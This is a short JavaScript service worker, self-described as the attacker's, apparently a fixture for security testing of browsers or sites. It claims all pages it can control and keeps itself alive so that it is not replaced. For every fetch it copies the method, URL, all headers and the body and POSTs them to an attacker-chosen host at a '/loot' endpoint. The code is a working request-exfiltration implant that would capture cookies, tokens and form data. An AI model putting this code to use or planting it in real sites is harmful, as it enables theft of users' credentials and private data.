// A service worker of the attacker's: it tells the attacker of every request that it sees, and leaves it alone.

self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
// A worker that is busy is not replaced, whatever the next one asks for.
let leave;
self.addEventListener("message", (event) => {
  if (event.data === "leave") leave?.();
  else
    event.waitUntil(
      new Promise((resolve) => {
        leave = resolve;
      }),
    );
});
self.addEventListener("fetch", (event) => {
  const { searchParams } = new URL(location.href);
  const to = searchParams.get("attacker");
  if (event.request.url.startsWith(to)) return;
  const copy = event.request.clone();
  const tell = async () => {
    const seen = [copy.method, copy.url, copy.destination, ...[...copy.headers].flat()];
    const texts = [...seen, await copy.text()].map((text) => [searchParams.get("attack"), text]);
    await fetch(`${to}/loot`, { method: "POST", body: JSON.stringify(texts) });
  };
  event.waitUntil(tell().catch(() => {}));
});
